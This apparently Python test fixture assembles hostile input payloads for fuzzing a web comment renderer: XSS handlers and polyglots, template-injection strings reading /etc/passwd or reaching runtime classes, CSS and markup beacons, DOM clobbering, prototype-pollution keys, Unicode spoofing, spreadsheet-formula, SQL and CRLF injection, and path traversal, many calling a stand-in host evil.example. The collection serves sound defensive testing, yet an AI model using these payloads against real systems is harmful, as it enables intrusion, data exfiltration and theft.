"""Texts that try to become more than text: handlers, schemes, broken tags and what parsers disagree about.

Where each group has its like in public: ACTS, in PortSwigger's cross-site scripting cheat sheet ("without parentheses",
"obfuscation"); TEMPLATES, in PortSwigger's research on server-side and client-side template injection and in
PayloadsAllTheThings; STYLES, in the HTML5 Security Cheatsheet and in "Postcards from the post-XSS world" (Zalewski);
CLOBBERING, in OWASP's cheat sheets on DOM Clobbering Prevention and Prototype Pollution Prevention; LETTERS, in
Unicode's technical reports 36 and 39 and the OWASP page on CSV injection; POLYGLOTS, in the OWASP XSS Filter Evasion
Cheat Sheet and the contest "XSS polyglot challenge". The forms name theirs themselves.
"""

from itertools import chain

from tests.hostile_forms import BREAKS, ELEMENTS, MARKDOWN, MUTATING

ACTS = (
    "alert(1)",
    "alert`1`",
    "confirm(1)",
    "prompt(1)",
    "print()",
    "pwned=1",
    "top['al'+'ert'](1)",
    "self[atob('YWxlcnQ')](1)",
    "\\u0061lert(1)",
    "eval(name='alert(1)')",
    "Function`alert\\x281\\x29```",
    "setTimeout('alert(1)')",
    "[].find.constructor('alert(1)')()",
    "onerror=alert;throw(1)",
    "import('//evil.example/x')",
    "fetch('//evil.example/x')",
    "navigator.sendBeacon('//evil.example/x')",
    "new(Image)().src='//evil.example/x'",
    "new(WebSocket)('wss://evil.example/x')",
    "new(XMLHttpRequest)().open('GET','//evil.example/x')",
    "open('//evil.example/x')",
    "location.hash='pwned'",
    "document.title='pwned'",
    "document.cookie='pwned=1'",
    "document.body.append('pwned')",
    "localStorage.pwned=1",
)
# Each form with so many of the acts, and behind so many of the breaks: all with all would be tens of thousands.
TURNS = 5
TEMPLATES = (
    "{{7*7}}",
    "{{constructor.constructor('pwned=1')()}}",
    "{{config.__class__.__init__.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{request|attr('application')}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% raw %}{{x}}{% endraw %}{% include '/etc/passwd' %}",
    "{{'<svg onload=pwned=1>'|safe}}",
    "${7*7}",
    "${alert(1)}",
    "#{7*7}",
    "<%= 7*7 %>",
    "<%- include('/etc/passwd') %>",
    "{{=7*7}}",
    "{{#with 's' as |x|}}{{x.constructor}}{{/with}}",
    "[[${7*7}]]",
    "*{T(java.lang.Runtime).getRuntime()}",
    "@(7*7)",
    "{php}echo 7*7;{/php}",
    "<?php echo 7*7; ?>",
    "<!--#exec cmd='id' -->",
    "<!--# include virtual='/etc/passwd' -->",
    "<esi:include src=//evil.example/x />",
    "%(x)s %s {0} {x!r} {0.__class__}",
    "{n} {name} {most}",
    "<div ng-app>{{$on.constructor('pwned=1')()}}</div>",
    "<div v-html=\"'<img src=x onerror=pwned=1>'\"></div>",
    "<div x-data x-init=pwned=1></div>",
    "<div hx-on:load=pwned=1 hx-get=//evil.example/x hx-trigger=load></div>",
    "<div data-bind=\"html:'<svg onload=pwned=1>'\"></div>",
)
STYLES = (
    "<style>*{display:none}</style>",
    "<style>@import url(//evil.example/x.css);</style>",
    "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
    "<div style='position:fixed;inset:0;z-index:9;background:url(//evil.example/x)'>Sign in again</div>",
    "<div style=width:expression(alert(1))>x</div>",
    "<div style=-moz-binding:url(//evil.example/x)>x</div>",
    "<div style=behavior:url(x.htc)>x</div>",
    "<div style=background:url(javascript:alert(1))>x</div>",
    "<div class='card done' part=dialog slot=x>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example/x><link rel=preconnect href=//evil.example>",
    "<img src=//evil.example/x.png>",
    "<img src='//evil.example/x?",
    "<a href='//evil.example/?",
    "<form action=//evil.example><input name=csrf_token><button>Sign in</button>",
    "<button form=x formaction=//evil.example/x>Post comment</button>",
    "<base href=//evil.example/>",
    "<base target='",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<meta name=referrer content=unsafe-url>",
    "<video autoplay src=//evil.example/x.mp4 poster=//evil.example/x.png></video>",
    "<object data=//evil.example/x></object><embed src=//evil.example/x>",
    "<iframe src=//evil.example/x></iframe>",
    "<table background=//evil.example/x><td background=//evil.example/x>x</table>",
    "<svg><image href=//evil.example/x.png /></svg>",
    "<plaintext>",
    "<xmp>",
    "<noscript>",
    "<!--",
    "<textarea>",
    "<select>",
    "<marquee>x",
    "</body></html>",
    "</li></ol></article></section></main>",
    "</comments-thread><comments-thread thread=other></comments-thread>",
    "<slot></slot><template shadowrootmode=open>",
)
# Names that a script looks for, on the page or on its own objects.
NAMES_OF_OTHERS = (
    "querySelector", "getElementById", "currentScript", "cookie", "body", "forms", "comments", "Comments", "fetch",
    "customElements", "trustedTypes", "heading", "menu", "service", "attributes", "parentNode", "firstChild",
)  # fmt: skip
PROTOTYPES = (
    "__proto__", "constructor", "prototype", "toString", "toJSON", "valueOf", "hasOwnProperty", "then", "undefined",
    "null", "NaN", "true", "0", "-1", "1e999", "[object Object]", "comment-__proto__", "__defineGetter__",
)  # fmt: skip
CLOBBERING = tuple(
    form.replace("{}", name)
    for name in NAMES_OF_OTHERS
    for form in ("<a id={}><a id={} name=href href=//evil.example/x>", "<form name={}><img name={}></form>")
) + tuple(
    form.replace("{}", name)
    for name in PROTOTYPES
    for form in ("{}", '{"{}":{"pwned":1},"a":["{}"]}', "[{}](https://x.example/?{}[pwned]=1#{})")
)
# Letters that are drawn elsewhere, not at all, as others, or in piles. What turns the text around it is not taken.
LETTERS = (
    "x\u200e\u200f\u061cy",
    "x\u200b\u200c\u200d\u2060\ufeffy",
    "\u05d0\u05d1\u05d2 <b>x</b> \u0645\u0631\u062d\u0628\u0627",
    "Z\u0351\u036b\u0343\u0363\u030e\u034ba\u0309\u0310\u0357\u0307l\u0306\u0334\u034cg\u0353\u033a\u033co" * 3,
    "\U000e0041\U000e0042x\ufe0f\u20e3",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 " * 3,
    "\ufdfd \U0001242b \u0bf5 \ua9c5",
    "\u202fx\u2009y\u180ez",
    "\u0430dmin \u13a0dmin \uff21dmin a\u0501min",
    "https://\u0430pple.example/ https://x.example\u2044evil.example/",
    "[https://paper.example](https://evil.example)",
    "[paper.example](https://paper.example.evil.example/)",
    "https://xn--80ak6aa92e.example/",
    "\u3164\uffa0\u2800 x",
    "\ufffe\uffff\ufdd0 x",
    "\ue000\uf8ff\U00100000 x",
    "x\u2029y",
    "\u212a\u017f\u1e9e\u0130\u0131 \ufb01\ufb02",
    '=HYPERLINK("//evil.example/x";"x")',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "' OR 1=1 --",
    "'; DROP TABLE comments; --",
    '" AND NEAR(x) * %',
    "a%0d%0aSet-Cookie: pwned=1",
    "a\r\nSet-Cookie: pwned=1",
    "../../../../etc/passwd",
    "x" * 400,
    "> " * 10 + "x",
    "*" * 400 + "x",
    "[" * 200 + "x" + "](javascript:alert(1))" * 9,
    "x " + "`" * 300,
)
POLYGLOTS = (
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</scRipt/--!><sVg/oNloAd=alert(1)//>",
    '">><marquee><img src=x onerror=confirm(1)></marquee>"></plaintext\\></|\\><plaintext/onmouseover=prompt(1)>',
    "'\">*/--></title></style></textarea></script><script>pwned=1</script>",
    "<svg%0Ao%00nload=%09((pro\\u006dpt))()//",
    "javascript:\"/*'/*`/*--></title></textarea></style></script><html onmouseover=/*&lt;svg/*/onload=alert()//>",
    "\"'--></style></script><svg oNload=alert(1)>{{7*7}}${7*7}<%=7*7%>",
)


def _written(form: str, act: int) -> str:
    return form.replace("{}", ACTS[act % len(ACTS)])


FORMS = ELEMENTS + MUTATING + MARKDOWN
PAYLOADS = tuple(
    dict.fromkeys(
        chain(
            (_written(form, TURNS * n + turn) for turn in range(TURNS) for n, form in enumerate(FORMS)),
            (
                BREAKS[(n + 2 * turn) % len(BREAKS)] + _written(form, n + turn)
                for turn in range(TURNS)
                for n, form in enumerate(FORMS)
            ),
            TEMPLATES + STYLES + CLOBBERING + LETTERS + POLYGLOTS,
        )
    )
)
# A fifth of them for every day: each form, some behind each break, and all that is no form.
SAMPLE = tuple(
    dict.fromkeys(
        chain(
            (_written(form, n) for n, form in enumerate(FORMS)),
            (BREAKS[n % len(BREAKS)] + _written(form, n) for n, form in enumerate(FORMS[::2])),
            TEMPLATES + STYLES + CLOBBERING + LETTERS + POLYGLOTS,
        )
    )
)
# As many as fit a name of sixty characters.
NAMES = tuple(payload for payload in PAYLOADS if len(payload) <= 60 and payload.isprintable())
